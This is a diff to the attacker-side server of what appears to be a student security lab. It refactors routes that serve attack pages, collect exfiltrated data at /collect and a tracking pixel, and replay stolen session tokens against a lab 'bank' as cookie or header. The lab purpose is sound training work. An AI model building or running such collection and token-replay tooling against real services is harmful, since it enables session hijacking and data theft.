@@ -3,7 +3,7 @@ import { join } from 'node:path';
 import express, { type Express, type Request, type Response } from 'express';
 import { bounds, createCollector, type Loot } from './collector.ts';
 import { attackPage, isAttack, screenPage } from './pages.ts';
-import { replay, tokenShape, type Address } from './replay.ts';
+import { replay, stolenIn, type Address } from './replay.ts';
 
 const studentShape = /^[\w-]{22}$/;
 /** Requests of this server to the bank at the same time. */
@@ -45,8 +45,9 @@ export function createAttacker({
     const name = String(req.params['name'] ?? 'form');
     const student = studentOf(req, res);
     if (student === undefined) return;
-    if (!isAttack(name)) return void res.sendStatus(404);
-    res.type('html').send(attackPage(name, { student, bank, startsAtOnce: req.query['go'] !== undefined }));
+    const startsAtOnce = req.query['go'] !== undefined;
+    if (isAttack(name)) res.type('html').send(attackPage(name, { student, bank, startsAtOnce }));
+    else res.sendStatus(404);
   });
 
   app.get('/pixel.gif', (req, res) => {
@@ -66,8 +67,8 @@ export function createAttacker({
     const student = studentOf(req, res);
     if (student === undefined) return;
     const body: unknown = req.body;
-    const text = req.query['data'] ?? (typeof body === 'string' ? body : '');
-    collector.add(student, { kind: 'collect', text: String(text), ...sourceOf(req) });
+    const texts = [req.query['data'], body].filter((text) => typeof text === 'string');
+    collector.add(student, { kind: 'collect', text: texts.join(' '), ...sourceOf(req) });
     res.status(204).end();
   };
   app.get('/collect', collect);
@@ -93,19 +94,16 @@ export function createAttacker({
   app.post('/replay', express.json({ limit: 1024, inflate: false }), async (req, res) => {
     const student = studentOf(req, res);
     if (student === undefined) return;
-    const body: unknown = req.body;
-    const { token, as } = Object(body);
-    if (typeof token !== 'string' || !tokenShape.test(token)) return void res.sendStatus(422);
-    if (replays >= replaysAtMost) return void res.sendStatus(429);
+    const stolen = stolenIn(req.body);
+    if (stolen === undefined || replays >= replaysAtMost) {
+      res.sendStatus(stolen === undefined ? 422 : 429);
+      return;
+    }
     replays += 1;
     try {
-      const answer = await replay(bank, bankAddress, { token, as: as === 'cookie' ? 'cookie' : 'header' });
-      collector.add(student, {
-        kind: 'replay',
-        text: `${answer.status} ${answer.text}`,
-        origin: '',
-        referer: '',
-      });
+      const answer = await replay(bank, bankAddress, stolen);
+      const text = `${answer.status} ${answer.text}`;
+      collector.add(student, { kind: 'replay', text, origin: '', referer: '' });
       res.json(answer);
     } catch {
       res.sendStatus(502);
